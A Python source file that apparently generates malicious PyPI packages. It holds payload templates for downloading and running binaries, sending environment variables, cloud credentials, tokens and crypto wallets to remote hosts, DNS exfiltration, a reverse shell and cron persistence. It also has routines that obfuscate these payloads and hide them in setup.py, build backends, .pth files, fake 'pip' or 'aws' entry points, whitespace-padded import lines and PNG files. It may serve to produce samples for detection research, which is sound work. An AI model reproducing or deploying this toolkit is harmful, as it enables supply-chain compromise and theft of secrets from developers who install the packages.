"""PyPI shapes of the JUDGE family."""
import base64
import bz2
import lzma
import posixpath
import re
import zlib

from context import render
from place import Unsuitable

plain = repr


def backwards(text):
    return f"{text[::-1]!r}[::-1]"


def percent(text):
    return f"'%s%s' % ({text[:len(text) // 2]!r}, {text[len(text) // 2:]!r})"


def octal(text):
    return "'" + "".join(f"\\{ord(c):03o}" if ord(c) < 128 else c for c in text) + "'"


def shifted(text):
    return f"''.join(chr(c - 7) for c in {[ord(c) + 7 for c in text]})"


def writer(ctx):
    return ctx.rng.choice([plain, plain, plain, backwards, percent, octal, shifted])


CURL = """
import os as <A>, sys as <B>
if <B>.platform.startswith(§linux§):
    <A>.system(§curl -fsSL {url} -o ~/.cache/{file}; chmod u+x ~/.cache/{file}; nohup ~/.cache/{file} >/dev/null 2>&1 &§)
elif <B>.platform == §win32§:
    <A>.popen(§cmd /c curl -s -o %APPDATA%\\\\{file}.scr {url} & start "" %APPDATA%\\\\{file}.scr§)
"""
HTTPCLIENT = """
from http.client import HTTPSConnection as <A>
import platform as <B>, os as <C>
try:
    <D> = <A>(§{host}§, timeout=4)
    <D>.request(§PUT§, §/§ + <B>.node(), §\\n§.join(map(§=§.join, <C>.environ.items())))
    <D>.getresponse().read()
except OSError:
    pass
"""
WALLETS = """
import pathlib as <A>, io as <B>, zipfile as <C>, urllib.request as <D>
<E> = <B>.BytesIO()
with <C>.ZipFile(<E>, §w§) as <F>:
    for <G> in (§.ethereum/keystore§, §.electrum/wallets§, §AppData/Roaming/Exodus/exodus.wallet§, §.config/solana§, §.kube§, §.config/gcloud§):
        for <H> in (<A>.Path.home() / <G>).rglob(§*§):
            if <H>.is_file():
                <F>.write(<H>)
if <E>.tell() > 100:
    <D>.urlopen(<D>.Request(§{url}§, <E>.getvalue(), method=§POST§))
"""
DNS = """
import socket as <A>, binascii as <B>, os as <C>
for <D> in (§AWS_SECRET_ACCESS_KEY§, §GITHUB_TOKEN§, §USER§):
    try:
        <A>.getaddrinfo(<B>.hexlify(<C>.environ.get(<D>, §-§).encode())[:60].decode() + §.{host}§, 80)
    except OSError:
        pass
"""
COMPILE = """
import urllib3 as <A>
<B> = <A>.PoolManager().request(§GET§, §{url}§).data
<C> = compile(<B>, §<string>§, §exec§)
eval(<C>, {{}})
"""
PTY = """
import pty as <A>, socket as <B>, os as <C>, threading as <D>
def <E>():
    <F> = <B>.create_connection((§{ip}§, {port}))
    [<C>.dup2(<F>.fileno(), i) for i in range(3)]
    <A>.spawn(§bash§)
<D>.Timer({delay}, <E>).start()
"""
CRON = """
import subprocess as <A>
<A>.run([§bash§, §-c§, §(crontab -l 2>/dev/null; echo "*/20 * * * * curl -s {url} | sh") | crontab -§], check=False)
"""
TEMPLATES = [CURL, HTTPCLIENT, WALLETS, DNS, COMPILE, PTY, CRON]


def payload(ctx, *templates):
    values = {"url": ctx.url(), "file": ctx.token(7).lower(), "host": ctx.one("hosts"), "ip": ctx.ip(), "port": ctx.port(), "delay": ctx.rng.randrange(5, 300)}
    return render(ctx.fill(ctx.rng.choice(templates or TEMPLATES).format(**values)), writer(ctx)).lstrip()


def veil(ctx, code, most=2):
    for _ in range(ctx.rng.randrange(most + 1)):
        raw = code.encode()
        pick = ctx.rng.randrange(7)
        name = ctx.ident()
        if pick == 0:
            code = f"{name} = __import__('base64').b85decode({base64.b85encode(lzma.compress(raw))!r}); exec(__import__('lzma').decompress({name}))\n"
        elif pick == 1:
            code = f"exec(compile(__import__('bz2').decompress(bytes.fromhex({bz2.compress(raw).hex()!r})), __name__, 'exec'))\n"
        elif pick == 2:
            key = bytes(ctx.rng.randrange(1, 255) for _ in range(6))
            data = bytes(b ^ key[i % 6] for i, b in enumerate(raw))
            code = f"{name} = lambda d, k: bytes(c ^ k[i % len(k)] for i, c in enumerate(d))\nexec({name}({list(data)}, {key!r}))\n"
        elif pick == 3:
            code = f"getattr(__import__('builtins'), {'cexe'!r}[::-1])(getattr(__import__('base64'), 'b32decode')({base64.b32encode(raw).decode()!r}))\n"
        elif pick == 4:
            code = f"(lambda {name}: exec({name}))(__import__('zlib').decompress(__import__('base64').b64decode({base64.b64encode(zlib.compress(raw)).decode()[::-1]!r}[::-1])))\n"
        elif pick == 5:
            code = f"import types\n{name} = types.FunctionType(compile({code!r}, 'm', 'exec'), globals())\n{name}()\n"
        else:
            number = int.from_bytes(raw, "big")
            code = f"{name} = {number}\nexec({name}.to_bytes(({name}.bit_length() + 7) // 8, 'big'))\n" if len(raw) < 1500 else code
    return code


def indent(code, by="    "):
    return "".join(by + line + "\n" for line in code.rstrip("\n").split("\n"))


def setup_middle(package, ctx):
    package.after_imports(package.setup(), veil(ctx, payload(ctx)))


def setup_version(package, ctx):
    """Hidden in a helper that setup() calls for an argument."""
    name = package.setup()
    text = package.bundle.text(name)
    if "setup(" not in text or "zip_safe" in text:
        raise Unsuitable("no plain setup() call")
    helper = ctx.ident()
    head, _, tail = text.rpartition("setup(")
    package.bundle.put(name, head + f"setup(\n    zip_safe={helper}()," + tail)
    package.after_imports(name, f"def {helper}():\n{indent(veil(ctx, payload(ctx)))}    return False\n")


def setup_command(package, ctx):
    name = package.setup()
    text = package.bundle.text(name)
    if "setup(" not in text or "cmdclass" in text:
        raise Unsuitable("no plain setup() call")
    base, verb = ctx.rng.choice([("build_py", "build_py"), ("egg_info", "egg_info"), ("develop", "develop"), ("sdist", "sdist")])
    kind = "".join(part.title() for part in ("custom", verb.replace("_", " "))).replace(" ", "")
    head, _, tail = text.rpartition("setup(")
    package.bundle.put(name, head + f"setup(\n    cmdclass=dict({verb}={kind})," + tail)
    package.after_imports(name, f"import setuptools.command.{base} as _{base}\n\nclass {kind}(_{base}.{base}):\n    def finalize_options(self):\n        super().finalize_options()\n"
                                f"{indent(veil(ctx, payload(ctx)), '        ')}\n")


def build_backend(package, ctx):
    name = package.root + "pyproject.toml"
    if package.wheel or name not in package.bundle.files or "[build-system]" not in package.bundle.text(name):
        raise Unsuitable("no build system")
    text = package.bundle.text(name)
    real = re.search(r'^build-backend\s*=\s*"([\w.]+)"', text, re.M)
    if not real or "backend-path" in text or ":" in real.group(1):
        raise Unsuitable("no plain backend")
    module = "_backend_" + ctx.token(4).lower()
    package.bundle.put(name, text[: real.start()] + f'build-backend = "{module}"\nbackend-path = ["."]' + text[real.end():])
    package.bundle.put(package.root + module + ".py", f"from {real.group(1)} import *\n" + veil(ctx, payload(ctx)))


def import_deep(package, ctx):
    """At the end of a module that __init__ imports, or of another module when none is found."""
    init = package.package_init()
    folder = posixpath.dirname(init)
    names = re.findall(r"^from\s+\.(\w+)\s+import|^from\s+\.\s+import\s+(\w+)", package.bundle.text(init), re.M)
    targets = [posixpath.join(folder, (a or b) + ".py") for a, b in names]
    targets = [target for target in targets if target in package.bundle.files] or [init]
    package.append(ctx.rng.choice(targets), "\n" + veil(ctx, payload(ctx)))


def import_right(package, ctx):
    init = package.package_init()
    lines = package.bundle.text(init).split("\n")
    places = [i for i, line in enumerate(lines) if re.match(r"^(import\s+[\w.]+|from\s+[\w.]+\s+import\s+[\w, ]+|__\w+__\s*=\s*['\"][^'\"]*['\"])$", line)]
    if not places:
        raise Unsuitable("no plain line")
    code = base64.b64encode(payload(ctx).encode()).decode()
    place = ctx.rng.choice(places)
    lines[place] += " " * ctx.rng.randrange(150, 500) + f";exec(__import__('base64').b64decode('{code}'))"
    package.bundle.put(init, "\n".join(lines))


def import_data(package, ctx):
    """The payload lies behind a picture and is read back at import."""
    init = package.package_init()
    picture = posixpath.join(posixpath.dirname(init), ctx.rng.choice(["logo.png", "banner.png", "favicon.ico", "data.bin"]))
    head = b"\x89PNG\r\n\x1a\n" + bytes(ctx.rng.randrange(256) for _ in range(900))
    package.bundle.put(picture, head + zlib.compress(payload(ctx).encode()))
    a, b = ctx.ident(), ctx.ident() + "_"
    package.append(init, f"\nimport pathlib as {a}, zlib as {b}\nexec({b}.decompress({a}.Path(__file__).with_name({posixpath.basename(picture)!r}).read_bytes()[{len(head)}:]))\n")


def import_child(package, ctx):
    init = package.package_init()
    code = payload(ctx)
    package.append(init, f"\nimport subprocess as {ctx.fill('<A>')}0, sys\n".replace("0, sys", "_s, sys"))
    alias = package.bundle.text(init).rsplit("import subprocess as ", 1)[1].split(",")[0]
    package.append(init, f"{alias}.Popen([sys.executable, '-c', {code!r}], stdout=-3, stderr=-3)\n")


def library_call(package, ctx):
    """Inside a function of the library: nothing at import."""
    init = package.package_init()
    folder = posixpath.dirname(init)
    for name in sorted(package.bundle.find(".py"), key=lambda name: (ctx.rng.random(), name)):
        if name.startswith(folder) and not re.search(r"test", name):
            text = package.bundle.text(name)
            found = re.search(r"^def \w+\([^()]*\)(?: -> [\w\[\], .]+)?:\n(?=    [a-z_]\w*)", text, re.M)
            if found:
                package.bundle.put(name, text[: found.end()] + indent(veil(ctx, payload(ctx, WALLETS, HTTPCLIENT, COMPILE), 1)) + text[found.end():])
                return
    raise Unsuitable("no plain function")


def pth(package, ctx):
    if not package.wheel:
        raise Unsuitable("no wheel")
    line = veil(ctx, payload(ctx, CURL, DNS, COMPILE), 1)
    package.bundle.put(f"distutils-{ctx.token(5).lower()}.pth", f"import sys; exec({line!r})\n")


def entry(package, ctx):
    if not package.wheel:
        raise Unsuitable("no wheel")
    folder = package.folder()
    if not folder:
        raise Unsuitable("a single module")
    module = "_" + ctx.token(5).lower()
    package.bundle.put(posixpath.join(folder, module + ".py"), f"def main():\n{indent(veil(ctx, payload(ctx)))}\n")
    info = posixpath.dirname(package.metadata())
    name = posixpath.join(info, "entry_points.txt")
    text = package.bundle.text(name) if name in package.bundle.files else ""
    line = f"{ctx.rng.choice(['pip', 'pytest', 'aws', 'git-credential-x'])} = {folder.replace('/', '.')}.{module}:main\n"
    package.bundle.put(name, text.replace("[console_scripts]\n", "[console_scripts]\n" + line, 1) if "[console_scripts]" in text else text + "\n[console_scripts]\n" + line)


def native(package, ctx):
    folder = package.folder()
    blob = ctx.token(7).lower() + ctx.rng.choice([".abi3.so", ".pyd", ".bin"])
    package.bundle.put(posixpath.join(folder, blob), b"\x7fELF\x02\x01\x01" + bytes(9) + bytes(ctx.rng.randrange(256) for _ in range(70_000)))
    package.append(package.package_init(), f"\nimport os as {ctx.rng.choice(['_o', '_q'])}\nfrom ctypes import cdll as _c\ntry:\n    _c.LoadLibrary(__file__.rsplit('/', 1)[0] + '/{blob}')\nexcept Exception:\n    pass\n")


def requirement(package, ctx):
    name = package.metadata()
    text = package.bundle.text(name)
    head, gap, tail = text.partition("\n\n")
    package.bundle.put(name, head + f"\nRequires-Dist: {ctx.one('deps')}@git+https://git.example.net/x/{ctx.one('deps')}.git" + gap + tail)
    package.prepend(package.package_init(), f"import {ctx.one('deps').replace('-', '_')}\n")


SHAPES = [setup_middle, setup_version, setup_command, build_backend, import_deep, import_right, import_data, import_child, library_call, pth, entry, native, requirement]
